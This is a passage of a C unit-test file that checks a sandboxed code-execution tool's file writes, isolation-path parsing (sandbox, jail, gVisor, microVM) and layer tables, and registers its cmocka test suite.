	    "'text': 'x'})");
	fl = file_named(r->fs, r->nfs, "new.txt");
	assert_non_null(fl);
	assert_null(file_named(base, nbase, "new.txt"));
	assert_int_equal(fl->size, 1);
	assert_false(fl->unreadable);
	assert_int_equal(fl->mode, 0100644);
	memcpy(x, fl->digest, sizeof x);
	assert_true(same_file(file_named(r->fs, r->nfs, "report.txt"),
	    file_named(base, nbase, "report.txt")));
	r = run1(f, PATH_UNSAFE, "write_file({'path': 'new.txt', "
	    "'text': 'x'})");
	assert_memory_equal(file_named(r->fs, r->nfs, "new.txt")->digest, x,
	    sizeof x);
	r = run1(f, PATH_UNSAFE, "write_file({'path': 'new.txt', "
	    "'text': 'y'})");
	fl = file_named(r->fs, r->nfs, "new.txt");
	assert_int_equal(fl->size, 1);
	assert_memory_not_equal(fl->digest, x, sizeof x);
	r = run1(f, PATH_UNSAFE, "write_file({'path': 'report.txt', "
	    "'text': 'rewritten'})");
	fl = file_named(r->fs, r->nfs, "report.txt");
	assert_int_equal(fl->size, 9);
	assert_false(same_file(fl, file_named(base, nbase, "report.txt")));
}

/* The path table answers what code used to ask of path ids. */
static void
test_path_rows(void **state)
{
	struct fx *f = *state;
	enum path_id p;
	enum boundary b;
	enum layer seq[LAYERS_PATH_MAX];

	assert_true(record_path_parse("jail:ns", 7, &p));
	assert_int_equal(p, PATH_JAIL);
	assert_true(record_path_parse("jail:gvisor", 11, &p));
	assert_int_equal(p, PATH_GVISOR);
	assert_true(record_path_parse("jail:microvm", 12, &p));
	assert_int_equal(p, PATH_MICROVM);
	assert_false(record_path_parse("jail:", 5, &p));
	assert_int_equal(PATHS_DEFAULT, PATH_BIT(PATH_UNSAFE) |
	    PATH_BIT(PATH_SANDBOX));
	assert_int_equal(paths_offered(), PATH_BIT(PATH_UNSAFE) |
	    PATH_BIT(PATH_SANDBOX) | PATH_BIT(PATH_JAIL));
	assert_int_equal(paths_guarded(GUARD_KERNEL), PATH_BIT(PATH_JAIL) |
	    PATH_BIT(PATH_GVISOR) | PATH_BIT(PATH_MICROVM));
	assert_int_equal(path_policy(), PATH_SANDBOX);
	assert_int_equal(path_home(PATH_BIT(PATH_UNSAFE) |
	    PATH_BIT(PATH_JAIL)), PATH_JAIL);
	assert_int_equal(path_home(PATH_BIT(PATH_GVISOR)), PATH_SANDBOX);
	assert_int_equal(path_foremost(PATH_BIT(PATH_GVISOR) |
	    PATH_BIT(PATH_UNSAFE)), PATH_GVISOR);
	assert_true(record_path_is_jail(PATH_GVISOR));
	assert_false(record_path_is_jail(PATH_SANDBOX));
	/* --jail takes the kernel kinds only */
	assert_true(boundary_parse("gvisor", &b));
	assert_int_equal(b, BOUNDARY_GVISOR);
	assert_false(boundary_parse("none", &b));
	assert_false(boundary_parse("policy", &b));
	assert_int_equal(session_boundary(f->s, PATH_JAIL)->id, BOUNDARY_NS);
	session_set_jail(f->s, BOUNDARY_GVISOR);
	assert_int_equal(session_boundary(f->s, PATH_JAIL)->id,
	    BOUNDARY_GVISOR);
	assert_int_equal(session_boundary(f->s, PATH_UNSAFE)->id,
	    BOUNDARY_NONE);
	/* the layers a strip draws, from the kind's row or the table */
	assert_int_equal(layers_path(BOUNDARY_GVISOR, KIND_CODE, seq), 4);
	assert_int_equal(seq[1], LAYER_GVISOR);
	assert_int_equal(layers_path(BOUNDARY_NS, KIND_CODE, seq), 6);
	assert_int_equal(seq[5], LAYER_EVAL);
	assert_int_equal(layers_path(BOUNDARY_NONE, KIND_CODE, seq), 2);
	assert_true(layers_path(BOUNDARY_POLICY, KIND_COMMAND, seq) >
	    layers_path(BOUNDARY_POLICY, KIND_CODE, seq));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
#define T(fn) cmocka_unit_test_setup_teardown(fn, setup, fx_teardown)
		T(test_essay_code),
		T(test_import_blocked_on_outer_call),
		T(test_unsafe_plays_out_damage),
		T(test_unsafe_reads_secret),
		T(test_command_allowlist),
		T(test_argument_code_goes_through_policy),
		T(test_budget_exhaustion),
		T(test_snapshot_restores_everything),
		T(test_idempotency),
		T(test_surface),
		T(test_network_even_when_allowed),
		T(test_bad_command_arguments),
		T(test_errors_are_records),
		T(test_deep_nesting_is_an_error_record),
		T(test_json_record_fields),
		T(test_names_share_objects_across_inputs),
		T(test_print_shows_output),
		T(test_names_share_after_commit),
		T(test_command_forms),
		T(test_weak_presets_words),
		T(test_records_carry_panes),
		T(test_path_rows),
#undef T
#define S(fn) cmocka_unit_test_setup_teardown(fn, setup_small, fx_teardown)
		S(test_memory_cap_per_input),
		S(test_memory_counts_writes),
		S(test_memory_cap_per_session),
#undef S
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
